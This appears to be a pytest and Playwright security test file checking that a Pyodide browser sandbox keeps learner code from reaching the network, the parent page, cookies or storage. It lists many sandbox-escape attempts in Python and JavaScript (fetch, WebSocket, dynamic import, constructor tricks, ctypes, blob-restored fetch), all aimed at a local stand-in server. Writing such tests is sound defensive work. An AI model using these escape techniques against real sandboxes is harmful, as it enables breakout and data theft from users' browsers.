"""Code in the sandbox tries to get out: to the network, to the app's page, to what the browser keeps.

A server on this machine that answers anyone stands for the outside. Nothing may ever reach it.
"""

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Frame, Page, Worker, expect

from tests.browser.editing import expect_result, open_exercises, run


@dataclass
class Lure:
    """A server that anyone may ask for anything, and what it was asked."""

    url: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def lure() -> Iterator[Lure]:
    """Start the server that stands for the outside."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"export default 1")

        do_POST = do_OPTIONS = do_GET  # noqa: N815 - the names that http.server looks for

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found = Lure(f"http://127.0.0.1:{server.server_port}")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


# What a learner can write in Python. Each line is tried by itself.
IN_PYTHON = """
import js; js.fetch(URL)
import js; js.XMLHttpRequest.new().open("GET", URL)
import js; js.WebSocket.new(URL.replace("http", "ws"))
import js; js.importScripts(URL)
import js; js.parent.document.title
import js; js.document.cookie
import js; js.localStorage.getItem("x")
import js; js.self.fetch(URL)
import js; js.Object.constructor("return 1")()
import js; js.Object.constructor(f"return import('{URL}')")()
import js; js.Object.constructor.constructor("return self")().fetch(URL)
from pyodide.code import run_js; run_js(f"fetch('{URL}')")
from pyodide.code import run_js; run_js(f"import('{URL}')")
from pyodide.code import run_js; run_js("self.parent")
from pyodide.http import open_url; open_url(URL)
import urllib.request; urllib.request.urlopen(URL, timeout=1)
import socket; socket.create_connection(("127.0.0.1", PORT), timeout=1).send(b"GET /socket HTTP/1.0")
import pyodide_js; pyodide_js.constructor.constructor(f"fetch('{URL}')")()
""".strip().splitlines()

# What starts now and would reach the outside later.
LATER = """
import js; js.setTimeout(f"fetch('{URL}')", 0)
import js; js.setTimeout(f"import('{URL}')", 0)
import asyncio, pyodide.http; asyncio.ensure_future(pyodide.http.pyfetch(URL))
import asyncio, pyodide_js; asyncio.ensure_future(pyodide_js.loadPackage(URL + "/x-1.0-py3-none-any.whl"))
import asyncio, micropip; asyncio.ensure_future(micropip.install(URL + "/x-1.0-py3-none-any.whl"))
""".strip().splitlines()

# What breaks Python itself rather than getting out.
FATAL = ["import ctypes; ctypes.CDLL(None).emscripten_run_script_int(f\"fetch('{URL}'), 1\".encode())"]

TRY_ALL = """
URL, PORT = {url!r}, {port}
answer = []
for attempt in {attempts!r}:
    try:
        exec(attempt)
    except BaseException as error:
        continue
    answer.append(attempt)
answer = answer or ["nothing got out"]
"""


def try_all(page: Page, lure: Lure, attempts: list[str]) -> None:
    run(page, TRY_ALL.format(url=lure.url, port=lure.url.rsplit(":")[-1], attempts=attempts))


@pytest.fixture(scope="module")
def closed_page(browser: Browser, small_app: str) -> Iterator[Page]:
    """Open the exercises in a page whose console may fill with what the policy refuses."""
    page = browser.new_page()
    open_exercises(page, small_app)
    yield page
    page.context.close()


def test_the_lure_is_within_reach_of_the_page_itself(closed_page: Page, lure: Lure) -> None:
    closed_page.evaluate("url => fetch(url + '/page').then(answer => answer.text())", lure.url)
    assert lure.asked == ["/page"]


def test_python_code_does_not_get_out(closed_page: Page, lure: Lure) -> None:
    try_all(closed_page, lure, IN_PYTHON)
    expect_result(closed_page, "done, ['nothing got out']")
    try_all(closed_page, lure, LATER)
    closed_page.wait_for_timeout(2_000)
    # Python still runs, so whatever was to start later has had its turn.
    run(closed_page, "answer = 'still here'")
    expect_result(closed_page, "done, 'still here'")
    try_all(closed_page, lure, FATAL)
    expect_result(closed_page, "crash, None")
    assert lure.asked == []


# What JavaScript could do if a learner's code came to run it, with every name still in place.
IN_JAVASCRIPT = {
    "fetch": "fetch(url).then(() => 'out')",
    "XMLHttpRequest": """new Promise((yes, no) => { const r = new XMLHttpRequest(); r.open('GET', url);
                          r.onload = () => yes('out'); r.onerror = no; r.send(); })""",
    "WebSocket": """new Promise((yes, no) => { const s = new WebSocket(url.replace('http', 'ws'));
                     s.onopen = () => yes('out'); s.onerror = no; })""",
    "EventSource": """new Promise((yes, no) => { const s = new EventSource(url);
                       s.onopen = () => yes('out'); s.onerror = no; })""",
    "import()": "import(url).then(() => 'out')",
    "beacon": "Promise.resolve(navigator.sendBeacon(url)).then(() => { throw new Error('unknown'); })",
    "worker": """new Promise((yes, no) => { const w = new Worker(url); w.onerror = no; w.onmessage = yes; })""",
    "image": """new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('out');
                 i.onerror = no; i.src = url; })""",
    "script": """new Promise((yes, no) => { const s = document.createElement('script'); s.src = url;
                  s.onload = () => yes('out'); s.onerror = no; document.head.append(s); })""",
    "parent": "Promise.resolve().then(() => parent.document.title)",
    "top": "Promise.resolve().then(() => { top.location = url; })",
    "localStorage": "Promise.resolve().then(() => localStorage.length)",
    "cookie": "Promise.resolve().then(() => document.cookie)",
    "indexedDB": "new Promise((yes, no) => { const o = indexedDB.open('x'); o.onsuccess = yes; o.onerror = no; })",
    "caches": "caches.open('x')",
    "popup": "Promise.resolve().then(() => { if (open(url)) return 'out'; throw new Error('blocked'); })",
}


def refused(place: Frame | Worker, script: str, url: str) -> bool:
    kept = f"url => Promise.resolve().then(() => {script}).then(() => false, () => true)"
    return bool(place.evaluate(kept, url))


@pytest.mark.parametrize("way", IN_JAVASCRIPT)
def test_javascript_in_the_frame_does_not_get_out(closed_page: Page, lure: Lure, way: str) -> None:
    (frame,) = [frame for frame in closed_page.frames if frame.parent_frame]
    assert refused(frame, IN_JAVASCRIPT[way], lure.url)
    assert lure.asked == []


@pytest.mark.parametrize("way", ["import()", "Worker", "fetch", "restored fetch"])
def test_javascript_in_the_worker_does_not_get_out(closed_page: Page, lure: Lure, way: str) -> None:
    worker = closed_page.workers[-1]
    scripts = {
        "import()": "import(url).then(() => 'out')",
        "Worker": "new Worker(url)",
        "fetch": "fetch(url)",
        "restored fetch": "import(URL.createObjectURL(new Blob(['export default await fetch(\"' + url + '\")'], "
        "{type: 'text/javascript'})))",
    }
    assert refused(worker, scripts[way], lure.url)
    assert lure.asked == []


def test_what_the_app_keeps_is_still_there(closed_page: Page) -> None:
    expect(closed_page.get_by_role("heading", name="Exercises")).to_be_visible()
    assert closed_page.evaluate("localStorage.length") > 0
